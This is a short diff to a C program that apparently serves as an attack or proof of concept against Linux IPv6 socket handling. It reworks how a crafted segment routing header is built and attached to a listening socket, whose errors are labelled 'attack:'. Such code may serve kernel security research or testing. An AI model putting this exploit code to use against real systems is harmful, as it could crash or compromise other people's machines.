@@ -114,14 +114,13 @@ static int stuck_listen_with_routes(const char *port)
 {
 	const struct sockaddr_in6 address = {.sin6_family = AF_INET6,
 	                                     .sin6_port = htons((uint16_t)atoi(port))};
-	const struct {
-		struct ipv6_sr_hdr header;
-		struct in6_addr segment;
-	} routes = {.header = {.hdrlen = 2, .type = 4}} /* IPV6_SRCRT_TYPE_4 */;
+	/* A struct ipv6_sr_hdr of hdrlen 2 and type IPV6_SRCRT_TYPE_4, with a segment. */
+	static const unsigned char routes[sizeof(struct ipv6_sr_hdr) + sizeof(struct in6_addr)] = {
+	        0, 2, 4};
 	const int fd = socket(AF_INET6, SOCK_STREAM, 0), on = 1;
 
 	setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof(on));
-	if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, &routes, sizeof(routes)) < 0)
+	if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, routes, sizeof(routes)) < 0)
 		perror("attack: IPV6_RTHDR");
 	if (bind(fd, (const struct sockaddr *)&address, sizeof(address)) < 0)
 		perror("attack: bind");
